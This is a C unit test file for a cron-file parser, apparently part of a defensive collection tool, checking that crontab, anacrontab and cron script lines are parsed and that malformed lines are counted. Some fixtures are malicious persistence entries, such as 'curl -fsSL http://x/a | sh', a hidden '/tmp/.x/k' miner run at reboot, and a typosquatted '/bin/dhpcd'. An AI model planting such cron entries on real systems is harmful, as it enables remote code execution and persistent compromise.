/* test_cron.c - unit tests of collect/cron.c: crontab, spool, anacrontab and script
 * formats parsed into entries; bad lines counted, never fatal */
#include <string.h>
#include <sys/stat.h>

#include "collect/collect.h"
#include "t.h"

#define MAXE 64

typedef struct ent {
	unsigned lineno;
	mt_cron_format format;
	char line[256];
	char sched[128];
	char user[64];
	int has_user;
	char cmd[256];
	int sched_null, cmd_null;
	const char *path;
	const struct stat *st;
	size_t line_len, cmd_len;
} ent;

typedef struct got {
	size_t n;
	int stop_after; /* 0: never */
	ent e[MAXE];
} got;

static void copyn(char *dst, size_t cap, const char *s, size_t n)
{
	if (!s) {
		dst[0] = '\0';
		return;
	}
	if (n >= cap)
		n = cap - 1;
	memcpy(dst, s, n);
	dst[n] = '\0';
}

static int on_entry(void *ctx, const mt_cron_entry *e)
{
	got *g = ctx;
	if (g->n < MAXE) {
		ent *x = &g->e[g->n];
		x->lineno = e->lineno;
		x->format = e->format;
		copyn(x->line, sizeof(x->line), e->line, e->line_len);
		x->sched_null = e->schedule == NULL;
		x->cmd_null = e->command == NULL;
		copyn(x->sched, sizeof(x->sched), e->schedule, e->schedule_len);
		x->has_user = e->user != NULL;
		copyn(x->user, sizeof(x->user), e->user, e->user_len);
		copyn(x->cmd, sizeof(x->cmd), e->command, e->command_len);
		x->path = e->path;
		x->st = e->st;
		x->line_len = e->line_len;
		x->cmd_len = e->command_len;
	}
	g->n++;
	return g->stop_after && g->n >= (size_t)g->stop_after;
}

static unsigned parse(const char *text, mt_cron_format fmt, const char *owner, got *g)
{
	unsigned bad = 0;
	int stop = g->stop_after;
	memset(g, 0, sizeof(*g));
	g->stop_after = stop;
	ASSERT_INT_EQ(mt_cron_parse("/etc/crontab", text, strlen(text), fmt, owner, NULL,
	                            on_entry, g, &bad),
	              MT_OK);
	return bad;
}

static void test_system(void)
{
	got g = {0};
	struct stat st;
	memset(&st, 0, sizeof(st));
	st.st_ino = 4242;

	TEST_START("system crontab: schedule, user, command; env and comments skipped");
	static const char text[] =
		"# /etc/crontab: system-wide crontab\n"                            /* 1 */
		"SHELL=/bin/sh\n"                                                  /* 2 */
		"PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin\n"                 /* 3 */
		"MAILTO = root\n"                                                  /* 4 */
		"_X1=y\n"                                                          /* 5 */
		"\n"                                                               /* 6 */
		"17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n" /* 7 */
		"   # indented comment\n"                                          /* 8 */
		"*/5 1-3,7 * jan-mar mon,wed  www-data /bin/x arg  \n"             /* 9 */
		"\t@reboot root /tmp/.x/k\n"                                       /* 10 */
		"@daily   nobody  /usr/bin/true\n"                                 /* 11 */
		"7 * * * * root /bin/dhpcd";                                       /* 12 */
	unsigned bad = 0;
	ASSERT_INT_EQ(mt_cron_parse("/etc/crontab", text, strlen(text), MT_CRON_SYSTEM, NULL,
	                            &st, on_entry, &g, &bad),
	              MT_OK);
	ASSERT_INT_EQ(bad, 0);
	REQUIRE_INT_EQ(g.n, 5);
	ASSERT_INT_EQ(g.e[0].lineno, 7);
	ASSERT_STR_EQ(g.e[0].sched, "17 *\t* * *");
	ASSERT_STR_EQ(g.e[0].user, "root");
	ASSERT_STR_EQ(g.e[0].cmd, "cd / && run-parts --report /etc/cron.hourly");
	ASSERT_STR_EQ(g.e[0].line, "17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly");
	ASSERT_INT_EQ(g.e[0].format, MT_CRON_SYSTEM);
	ASSERT_STR_EQ(g.e[0].path, "/etc/crontab");
	ASSERT_PTR_EQ(g.e[0].st, &st);
	ASSERT_INT_EQ(g.e[1].lineno, 9);
	ASSERT_STR_EQ(g.e[1].sched, "*/5 1-3,7 * jan-mar mon,wed");
	ASSERT_STR_EQ(g.e[1].user, "www-data");
	ASSERT_STR_EQ(g.e[1].cmd, "/bin/x arg  "); /* the command is kept as written */
	ASSERT_INT_EQ(g.e[2].lineno, 10);
	ASSERT_STR_EQ(g.e[2].sched, "@reboot");
	ASSERT_STR_EQ(g.e[2].user, "root");
	ASSERT_STR_EQ(g.e[2].cmd, "/tmp/.x/k");
	ASSERT_STR_EQ(g.e[3].sched, "@daily");
	ASSERT_STR_EQ(g.e[3].user, "nobody");
	ASSERT_STR_EQ(g.e[3].cmd, "/usr/bin/true");
	ASSERT_INT_EQ(g.e[4].lineno, 12); /* last line without newline */
	ASSERT_STR_EQ(g.e[4].cmd, "/bin/dhpcd");
	TEST_DONE();

	TEST_START("every @ special");
	static const char *const specials[] = {"@reboot", "@yearly", "@annually", "@monthly",
	                                       "@weekly", "@daily", "@midnight", "@hourly"};
	for (size_t i = 0; i < MT_ARRAY_LEN(specials); i++) {
		char line[128];
		snprintf(line, sizeof(line), "%s root /bin/job%zu\n", specials[i], i);
		ASSERT_INT_EQ(parse(line, MT_CRON_SYSTEM, NULL, &g), 0);
		REQUIRE_INT_EQ(g.n, 1);
		ASSERT_STR_EQ(g.e[0].sched, specials[i]);
		ASSERT_STR_EQ(g.e[0].user, "root");
	}
	TEST_DONE();

	TEST_START("bad lines are counted and skipped, the good ones still come");
	static const char badtext[] =
		"@bogus root /bin/x\n"         /* 1: unknown special */
		"@Reboot root /bin/x\n"        /* 2: specials are lower case */
		"@reboot\n"                    /* 3: no user */
		"@reboot root\n"               /* 4: no command */
		"* * * *\n"                    /* 5: four fields */
		"* * * * * root\n"             /* 6: no command */
		"* * * * *\n"                  /* 7: no user */
		"x!y * * * * root /bin/x\n"    /* 8: bad time field */
		"1FOO=bar\n"                   /* 9: not an env name, not an entry */
		"* * * * * root /bin/good\n"   /* 10: good */
		"* * * * * \t \n"              /* 11: blanks after the schedule */
		"0 0 * * * root    \t\n";      /* 12: blanks for a command */
	bad = parse(badtext, MT_CRON_SYSTEM, NULL, &g);
	ASSERT_INT_EQ(bad, 11);
	REQUIRE_INT_EQ(g.n, 1);
	ASSERT_INT_EQ(g.e[0].lineno, 10);
	ASSERT_STR_EQ(g.e[0].cmd, "/bin/good");
	TEST_DONE();

	TEST_START("bad is added to, not reset");
	bad = 5;
	ASSERT_INT_EQ(mt_cron_parse("/x", "@bogus x y\n", 11, MT_CRON_SYSTEM, NULL, NULL,
	                            on_entry, memset(&g, 0, sizeof(g)), &bad),
	              MT_OK);
	ASSERT_INT_EQ(bad, 6);
	TEST_DONE();
}

static void test_user(void)
{
	got g = {0};

	TEST_START("user crontab: no user field, the owner is the file's");
	static const char text[] = "MAILTO=\"\"\n"
	                           "*/10 * * * * /usr/bin/curl -fsSL http://x/a | sh\n"
	                           "@reboot /tmp/.x/k -o pool:3333\n"
	                           "0 3 * * 1 root-is-a-command --flag\n";
	ASSERT_INT_EQ(parse(text, MT_CRON_USER, "alice", &g), 0);
	REQUIRE_INT_EQ(g.n, 3);
	ASSERT_STR_EQ(g.e[0].sched, "*/10 * * * *");
	ASSERT_TRUE(g.e[0].has_user);
	ASSERT_STR_EQ(g.e[0].user, "alice");
	ASSERT_STR_EQ(g.e[0].cmd, "/usr/bin/curl -fsSL http://x/a | sh");
	ASSERT_INT_EQ(g.e[0].lineno, 2);
	ASSERT_STR_EQ(g.e[1].sched, "@reboot");
	ASSERT_STR_EQ(g.e[1].cmd, "/tmp/.x/k -o pool:3333");
	ASSERT_STR_EQ(g.e[2].cmd, "root-is-a-command --flag");
	ASSERT_INT_EQ(g.e[2].format, MT_CRON_USER);
	TEST_DONE();

	TEST_START("user crontab without an owner: user is NULL");
	ASSERT_INT_EQ(parse("* * * * * /bin/x\n", MT_CRON_USER, NULL, &g), 0);
	REQUIRE_INT_EQ(g.n, 1);
	ASSERT_FALSE(g.e[0].has_user);
	ASSERT_STR_EQ(g.e[0].cmd, "/bin/x");
	ASSERT_INT_EQ(parse("* * * * *\n@hourly\n", MT_CRON_USER, "bob", &g), 2);
	ASSERT_SIZE_EQ(g.n, 0);
	TEST_DONE();
}

static void test_crlf(void)
{
	got g = {0};
	TEST_START("CRLF line endings");
	static const char text[] = "SHELL=/bin/sh\r\n"
	                           "* * * * * root /bin/true\r\n"
	                           "\r\n"
	                           "# c\r\n"
	                           "@reboot root /tmp/x -a\r\n";
	ASSERT_INT_EQ(parse(text, MT_CRON_SYSTEM, NULL, &g), 0);
	REQUIRE_INT_EQ(g.n, 2);
	ASSERT_STR_EQ(g.e[0].cmd, "/bin/true");
	ASSERT_SIZE_EQ(g.e[0].cmd_len, 9);
	ASSERT_STR_EQ(g.e[0].line, "* * * * * root /bin/true");
	ASSERT_SIZE_EQ(g.e[0].line_len, strlen("* * * * * root /bin/true"));
	ASSERT_INT_EQ(g.e[1].lineno, 5);
	ASSERT_STR_EQ(g.e[1].cmd, "/tmp/x -a");
	TEST_DONE();
}

static void test_anacron(void)
{
	got g = {0};
	TEST_START("anacrontab: period, delay, job id, command");
	static const char text[] =
		"# /etc/anacrontab\n"
		"SHELL=/bin/sh\n"
		"HOME=/root\n"
		"LOGNAME=root\n"
		"START_HOURS_RANGE=3-22\n"
		"RANDOM_DELAY=45\n"
		"1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n"           /* 7 */
		"7 10 cron.weekly run-parts --report /etc/cron.weekly\n"            /* 8 */
		"@monthly\t15\tcron.monthly\trun-parts --report /etc/cron.monthly\n" /* 9 */
		"1 5 evil.job curl http://x/a | sh\n"                               /* 10 */
		"7 10\n"                                                            /* 11: no id */
		"1 5 cron.daily\n"                                                  /* 12: no command */
		"x!x 5 id cmd\n";                                                   /* 13: bad period */
	ASSERT_INT_EQ(parse(text, MT_CRON_ANACRON, NULL, &g), 3);
	REQUIRE_INT_EQ(g.n, 4);
	ASSERT_INT_EQ(g.e[0].lineno, 7);
	ASSERT_STR_EQ(g.e[0].sched, "1\t5\tcron.daily");
	ASSERT_STR_EQ(g.e[0].cmd, "run-parts --report /etc/cron.daily");
	ASSERT_FALSE(g.e[0].has_user);
	ASSERT_INT_EQ(g.e[0].format, MT_CRON_ANACRON);
	ASSERT_STR_EQ(g.e[1].sched, "7 10 cron.weekly");
	ASSERT_STR_EQ(g.e[2].sched, "@monthly\t15\tcron.monthly");
	ASSERT_STR_EQ(g.e[2].cmd, "run-parts --report /etc/cron.monthly");
	ASSERT_STR_EQ(g.e[3].cmd, "curl http://x/a | sh");
	ASSERT_INT_EQ(g.e[3].lineno, 10);
	TEST_DONE();

	TEST_START("the anacrontab line of the brief");
	ASSERT_INT_EQ(parse("1 5 cron.daily run-parts --report /etc/cron.daily", MT_CRON_ANACRON,
	                    NULL, &g),
	              0);
	REQUIRE_INT_EQ(g.n, 1);
	ASSERT_STR_EQ(g.e[0].sched, "1 5 cron.daily");
	ASSERT_STR_EQ(g.e[0].cmd, "run-parts --report /etc/cron.daily");
	TEST_DONE();
}

static void test_script(void)
{
	got g = {0};
	TEST_START("script format: every line a command, comments skipped");
	static const char text[] = "#!/bin/sh\n"
	                           "# cron.daily/sysupdate\n"
	                           "\n"
	                           "FOO=bar\n"
	                           "  curl -fsSL http://x/a.sh | sh  \n"
	                           "exit 0";
	ASSERT_INT_EQ(parse(text, MT_CRON_SCRIPT, NULL, &g), 0);
	REQUIRE_INT_EQ(g.n, 3);
	ASSERT_STR_EQ(g.e[0].cmd, "FOO=bar"); /* in a script an assignment is a command */
	ASSERT_INT_EQ(g.e[0].lineno, 4);
	ASSERT_FALSE(g.e[0].sched_null);
	ASSERT_STR_EQ(g.e[0].sched, "");
	ASSERT_FALSE(g.e[0].has_user);
	ASSERT_STR_EQ(g.e[1].cmd, "curl -fsSL http://x/a.sh | sh  ");
	ASSERT_STR_EQ(g.e[2].cmd, "exit 0");
	ASSERT_INT_EQ(g.e[2].format, MT_CRON_SCRIPT);
	TEST_DONE();
}

static void test_limits(void)
{
	got g = {0};

	TEST_START("a 100 KB line is counted bad, not a crash; later lines still parsed");
	size_t big = 100 * 1024;
	char *text = malloc(big + 200);
	REQUIRE_NOT_NULL(text);
	int n = snprintf(text, 200, "* * * * * root /bin/first\n* * * * * root /bin/");
	memset(text + n, 'A', big);
	snprintf(text + n + big, 200, "\n@reboot root /bin/after\n");
	size_t len = strlen(text);
	for (int fmt = MT_CRON_SYSTEM; fmt <= MT_CRON_SCRIPT; fmt++) {
		unsigned bad = 0;
		memset(&g, 0, sizeof(g));
		ASSERT_INT_EQ(mt_cron_parse("/etc/crontab", text, len, (mt_cron_format)fmt, "u",
		                            NULL, on_entry, &g, &bad),
		              MT_OK);
		/* anacron: "@reboot root /bin/after" is period, delay, id and no command */
		ASSERT_INT_EQ(bad, fmt == MT_CRON_ANACRON ? 2 : 1);
		if (fmt == MT_CRON_SYSTEM) {
			REQUIRE_INT_EQ(g.n, 2);
			ASSERT_STR_EQ(g.e[0].cmd, "/bin/first");
			ASSERT_STR_EQ(g.e[1].cmd, "/bin/after");
			ASSERT_INT_EQ(g.e[1].lineno, 3);
		}
		if (fmt == MT_CRON_SCRIPT)
			ASSERT_SIZE_EQ(g.n, 2);
	}
	/* a line exactly at MT_MAX_LINE is still an entry */
	char *edge = malloc(MT_MAX_LINE + 2);
	REQUIRE_NOT_NULL(edge);
	memset(edge, 'B', MT_MAX_LINE);
	memcpy(edge, "* * * * * root /bin/", 20);
	edge[MT_MAX_LINE] = '\n';
	unsigned bad = 0;
	memset(&g, 0, sizeof(g));
	mt_cron_parse("/x", edge, MT_MAX_LINE + 1, MT_CRON_SYSTEM, NULL, NULL, on_entry, &g, &bad);
	ASSERT_INT_EQ(bad, 0);
	ASSERT_SIZE_EQ(g.n, 1);
	ASSERT_SIZE_EQ(g.e[0].cmd_len, MT_MAX_LINE - 15);
	free(edge);
	free(text);
	TEST_DONE();

	TEST_START("binary junk and NUL bytes: no crash, counted");
	static const char junk[] = "\x00\x01\xff * * * *\n* * * * * root /bin/a\0"
	                           "b\n\xff\xfe";
	bad = 0;
	memset(&g, 0, sizeof(g));
	ASSERT_INT_EQ(mt_cron_parse("/x", junk, sizeof(junk) - 1, MT_CRON_SYSTEM, NULL, NULL,
	                            on_entry, &g, &bad),
	              MT_OK);
	ASSERT_SIZE_EQ(g.n, 1);
	ASSERT_SIZE_EQ(g.e[0].cmd_len, 8); /* "/bin/a\0b" kept whole, NUL and all */
	ASSERT_INT_EQ(bad, 2);
	TEST_DONE();

	TEST_START("empty input, and stopping when fn asks");
	bad = 0;
	memset(&g, 0, sizeof(g));
	ASSERT_INT_EQ(mt_cron_parse("/x", "", 0, MT_CRON_SYSTEM, NULL, NULL, on_entry, &g, &bad),
	              MT_OK);
	ASSERT_SIZE_EQ(g.n, 0);
	ASSERT_INT_EQ(bad, 0);
	g.stop_after = 2;
	parse("* * * * * root /a\n* * * * * root /b\n* * * * * root /c\n", MT_CRON_SYSTEM, NULL,
	      &g);
	ASSERT_SIZE_EQ(g.n, 2);
	g.stop_after = 0;
	TEST_DONE();

	TEST_START("parse_at numbers lines from where the piece starts");
	bad = 0;
	memset(&g, 0, sizeof(g));
	ASSERT_INT_EQ(mt_cron_parse_at("/x", "\n* * * * * root /a\n", 19, 100, MT_CRON_SYSTEM,
	                               NULL, NULL, on_entry, &g, &bad),
	              0);
	REQUIRE_INT_EQ(g.n, 1);
	ASSERT_INT_EQ(g.e[0].lineno, 102);
	memset(&g, 0, sizeof(g));
	g.stop_after = 1;
	ASSERT_INT_EQ(mt_cron_parse_at("/x", "* * * * * root /a\n* * * * * root /b\n", 36, 0,
	                               MT_CRON_SYSTEM, NULL, NULL, on_entry, &g, &bad),
	              1);
	ASSERT_SIZE_EQ(g.n, 1);
	TEST_DONE();
}

int main(void)
{
	test_system();
	test_user();
	test_crlf();
	test_anacron();
	test_script();
	test_limits();
	return T_DONE();
}
